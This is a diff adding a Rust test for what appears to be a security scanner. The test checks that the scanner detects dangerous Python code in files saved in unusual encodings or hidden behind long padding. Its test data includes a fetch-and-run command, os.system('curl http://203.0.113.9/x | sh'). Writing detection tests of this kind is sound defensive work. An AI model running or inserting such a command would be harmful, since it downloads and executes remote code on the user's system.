@@ -60,3 +60,25 @@ fn what_is_long_but_flat_is_read() {
         assert!(list(&report, ISSUES).is_empty(), "{statement:.60}: {:?}", list(&report, ISSUES));
     }
 }
+
+#[test]
+fn a_source_in_another_encoding_is_read() {
+    let code = |head: &[u8]| [head, b"\nimport os\nos.system('curl http://203.0.113.9/x | sh')\n"].concat();
+    for head in [&b"# coding: latin-1\n# caf\xe9"[..], b"# caf\xe9", b"x = '\xa4\xe9\xff'", b"\xff\xfe = 1", b"# \x01"]
+    {
+        for name in ["tools.py", "tools.pyi", "tools.pyw"] {
+            let report = report(&code(head), name);
+            assert_eq!(report.format, "python", "{head:?}");
+            assert!(!list(&report, DANGERS).is_empty(), "{head:?}");
+        }
+        // Behind what is looked at to tell the format.
+        let long = [b"a = 1\n".repeat(200_000), code(head)].concat();
+        assert!(!list(&report(&long, "tools.py"), DANGERS).is_empty(), "{head:?}");
+    }
+    let benign = report(b"# -*- coding: iso-8859-1 -*-\nname = 'Andr\xe9'\nprint(name)\n", "tools.py");
+    assert_eq!(benign.format, "python");
+    assert!(super::ALARMING.iter().all(|path| !benign.facts.contains_key(*path)), "{:?}", benign.facts);
+    for (bytes, name) in [(&b"\x80\x02cposix\nsystem\nX"[..], "x.py"), (b"caf\xe9 \x01\x02", "x.dat")] {
+        assert_ne!(report(bytes, name).format, "python", "{name}");
+    }
+}
